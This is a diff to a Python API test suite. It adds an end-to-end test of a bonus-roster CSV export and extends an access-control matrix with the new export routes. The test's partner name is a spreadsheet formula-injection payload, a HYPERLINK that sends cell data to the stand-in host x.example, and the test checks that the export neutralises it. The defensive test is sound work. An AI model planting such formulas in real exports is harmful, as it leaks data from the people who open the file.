@@ -8,6 +8,8 @@ matrix of docs/api.md over every /v1 route that template.yaml declares.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import time
 import urllib.error
@@ -576,6 +578,68 @@ def test_a_backtest_is_queued_and_polled_until_complete(server: Server) -> None:
     assert server.request("GET", "/v1/policy/backtests/bt-0123456789abcdef0123", token=ops).status == 404
 
 
+def test_the_bonus_roster_downloads_through_its_pre_signed_link(server: Server) -> None:
+    """A month's roster over HTTP: POST answers 202 at once, GET turns complete once the local queues
+    are drained, and its link opens on the local server (no token: the link is the credential) as an
+    RFC 4180 CSV with the header row, the hostile name neutralised and whole."""
+    from scorecard.domain.snapshot import Month
+
+    partner, hostile = "roster-e2e-01", '=HYPERLINK("http://x.example/?"&A1,"Click"), Inc.\nLine 2'
+    month = Month.of(datetime.now(UTC).date()).previous()
+    first = month.first_day
+    ops = token("ops")
+    assert server.request("PUT", f"/v1/partners/{partner}", token=ops, body={"name": hostile}).status in (
+        200,
+        201,
+    )
+    job = {"partner_id": partner, "job_id": "R-1"}
+    events = [
+        {"event_id": "roster-e2e:R-1:o", "type": "job.offered", **job, "occurred_at": f"{first}T09:00:00Z",
+         "value": "250.00", "part_count": 2, "due_date": (first + timedelta(days=9)).isoformat()},
+        {"event_id": "roster-e2e:R-1:a", "type": "job.accepted", **job, "occurred_at": f"{first}T10:00:00Z"},
+        {"event_id": "roster-e2e:R-1:s", "type": "job.shipped", **job,
+         "occurred_at": f"{first + timedelta(days=5)}T10:00:00Z", "parts_shipped": 2},
+    ]  # fmt: skip
+    assert server.request("POST", "/v1/events", token=token("service"), body={"events": events}).status == 200
+    assert server.request("POST", f"/_local/run/monthly?month={month}&email=false").status == 200
+
+    started = server.request(
+        "POST", "/v1/exports", token=ops, body={"kind": "bonus_roster", "month": str(month)}
+    )
+    assert started.status == 202, started.body
+    assert started.headers["Location"] == started.body["location"] == f"/v1/exports/{started.body['id']}"
+    for _ in range(40):
+        answer = server.request("GET", started.body["location"], token=ops)
+        assert answer.status == 200, answer.body
+        if answer.body["status"] in ("complete", "failed"):
+            break
+        time.sleep(0.25)
+    view = answer.body
+    assert (view["status"], view["kind"], view["month"], view["reason"]) == (
+        "complete",
+        "bonus_roster",
+        str(month),
+        None,
+    )
+    link = view["url"]
+    assert link.startswith(f"{server.base}/_local/s3/") and "X-Amz-Signature=" in link
+    with urllib.request.urlopen(link, timeout=30) as response:
+        assert response.status == 200
+        assert response.headers["Content-Type"] == "text/csv; charset=utf-8; header=present"
+        assert response.headers["Content-Disposition"] == f'attachment; filename="bonus-roster-{month}.csv"'
+        data = response.read()
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), strict=True))
+    assert rows[0] == [
+        "partner_id", "name", "tier_at_month_end", "bonus_eligible", "days_in_bonus_tier", "days_scored",
+        "monthly_score", "grade", "value_accepted", "snapshot_revision",
+    ]  # fmt: skip
+    assert len(rows) - 1 == view["rows"] and data.endswith(b"\r\n")
+    (mine,) = [row for row in rows[1:] if row[0] == partner]
+    # The one job shipped 4 days before its due date: 100 % on time, nothing inspected -> 100, A; no
+    # daily run in the month on this fresh server: no tier, no bonus, 0 days.
+    assert mine == [partner, "'" + hostile, "", "false", "0", "0", "100", "A", "250.00", "1"]
+
+
 # ---- the access matrix ------------------------------------------------------------------------------
 
 SCOPED = frozenset({"partner", "ops", "service"})
@@ -604,6 +668,8 @@ ACCESS: dict[tuple[str, str], frozenset[str] | None] = {
     ("PUT", "/v1/policy/active"): frozenset({"ops"}),
     ("POST", "/v1/policy/backtests"): frozenset({"ops"}),
     ("GET", "/v1/policy/backtests/{backtest_id}"): frozenset({"ops"}),
+    ("POST", "/v1/exports"): frozenset({"ops"}),
+    ("GET", "/v1/exports/{export_id}"): frozenset({"ops"}),
     ("GET", "/v1/openapi.json"): None,  # public
     ("GET", "/v1/docs"): None,  # public: Swagger UI over the document
 }
@@ -615,6 +681,7 @@ PARAMS = {
     "month": "2026-10",
     "review_id": "rev-1",
     "backtest_id": "bt-0123456789abcdef0123",
+    "export_id": "ex-0123456789abcdef0123",
 }
 BODIES: dict[tuple[str, str], Any] = {
     ("POST", "/v1/events"): {
@@ -647,6 +714,7 @@ BODIES: dict[tuple[str, str], Any] = {
     },
     ("PUT", "/v1/policy/active"): {"version": "v2", "effective_from": "2099-01-01"},
     ("POST", "/v1/policy/backtests"): {"version": "v1", "from": "2026-10-31", "to": "2026-11-01"},
+    ("POST", "/v1/exports"): {"kind": "partners"},
 }
 
 # A query that takes a route down another path of its code (the score order: GSI3, not the registry).
